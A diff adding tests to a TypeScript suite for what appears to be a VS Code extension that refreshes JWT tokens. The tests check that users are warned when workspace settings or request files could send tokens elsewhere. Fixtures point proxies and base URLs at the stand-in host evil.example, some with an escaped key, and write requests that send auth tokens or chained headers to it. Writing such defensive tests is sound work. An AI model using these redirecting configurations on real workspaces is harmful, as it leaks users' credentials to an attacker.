@@ -147,8 +147,12 @@ describe("A fresh token", function () {
     ["env/.env", "host=https://evil.example"],
     ["../httpyac.config.cjs", "module.exports = {};"],
     ["package.json", '{"httpyac": {"environments": {}}}'],
+    ["package.json", '{"httpy\\u0061c": {"proxy": "http://evil.example"}}'],
+    ["package.json", '{"devDependencies": {"httpyac-plugin-x": "1"}}'],
+    ["package.json", '{"dependencies": {"@someone/httpyac-plugin-x": "1"}}'],
+    ["package.json", '{"name": "x",'],
   ] as const) {
-    it(`is asked about where “${name}” lies beside the file, by its name`, async () => {
+    it(`is asked about where “${name}” lies beside the file, by its name: ${content}`, async () => {
       const other = join(folder, name);
       await mkdir(join(other, ".."), { recursive: true });
       await writeFile(other, content);
@@ -162,6 +166,65 @@ describe("A fresh token", function () {
       }
     });
   }
+
+  for (const [section, key, value] of [
+    ["httpyac", "requestGotOptions", { prefixUrl: "https://evil.example" }],
+    ["httpyac", "environmentVariables", { $shared: { request_proxy: "http://evil.example" } }],
+    ["rest-client", "environmentVariables", { $shared: { host: "https://evil.example" } }],
+    ["rest-client", "certificates", { "platform.kore.ai": { pfx: "x" } }],
+  ] as const) {
+    it(`is asked about where the workspace sets “${section}.${key}”, by its name`, async () => {
+      const settings = vscode.Uri.joinPath(vscode.workspace.workspaceFolders?.[0]?.uri ?? assert.fail("no workspace"), ".vscode/settings.json");
+      const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
+      await vscode.workspace.fs.writeFile(settings, new TextEncoder().encode(JSON.stringify({ [`${section}.${key}`]: value })));
+      try {
+        await until(() => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue !== undefined, "the setting counts");
+        const { asked, modals } = await click(document, "Refresh");
+        assert.deepEqual(asked, ["modal"]);
+        assert.ok(modals[0]?.detail.includes(`“${section}.${key}”`), modals[0]?.detail);
+      } finally {
+        await vscode.workspace.fs.delete(settings);
+        await until(() => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue === undefined, "the setting is gone");
+      }
+    });
+  }
+
+  it("is asked about once where it stands in a variable and is sent, with all hosts that may get it", async () => {
+    const document = await opened(`@token = ${await expired()}\n\n###\nGET https://evil.example/x\n\n###\nGET ${OWN}/x\nauth: {{token}}\n`);
+    const { asked, modals } = await click(document, "Refresh and send");
+    assert.deepEqual(asked, ["modal"]);
+    assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
+  });
+
+  it("is asked about for all requests where one takes from what another sent", async () => {
+    const document = await opened(`###\n# @name a\nGET ${OWN}/x\nauth: ${await expired()}\n\n###\nGET https://evil.example/x\nauth: {{a.request.headers.auth}}\n`);
+    const { modals } = await click(document, "Refresh");
+    assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
+  });
+
+  it("in Markdown is asked about, since clients send what stands there", async () => {
+    const document = await vscode.workspace.openTextDocument({ language: "markdown", content: `~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n` });
+    const editor = await vscode.window.showTextDocument(document);
+    editor.selection = new vscode.Selection(2, 10, 2, 10);
+    const { asked, modals } = await asking(() => vscode.commands.executeCommand("jwtApps.refreshToken"));
+    assert.deepEqual(asked, ["modal"]);
+    assert.match(modals[0]?.detail ?? "", /Markdown/);
+  });
+
+  it("in a new request file is asked about where something lies beside it", async () => {
+    const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? assert.fail("no workspace");
+    const make = (answer?: string) => asking(() => vscode.commands.executeCommand<string | undefined>("jwtApps.newRequestFile", { app: app.id, endpoint: "get-bots", use: "line" }), answer);
+    await asking(() => vscode.commands.executeCommand("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
+    const plain = await make();
+    assert.deepEqual([plain.asked, typeof plain.result], [[], "string"]);
+    await writeFile(join(root, "httpyac.config.js"), "module.exports = {};");
+    try {
+      const { asked, result } = await make();
+      assert.deepEqual([asked, result], [["modal"], undefined]);
+    } finally {
+      await rm(join(root, "httpyac.config.js"));
+    }
+  });
 
   it("is not asked about where other files lie there", async () => {
     for (const [name, content] of [["package.json", '{"name": "x"}'], ["environment.md", ""], ["env.ts", ""], ["other.http", ""]] as const) await writeFile(join(folder, name), content);
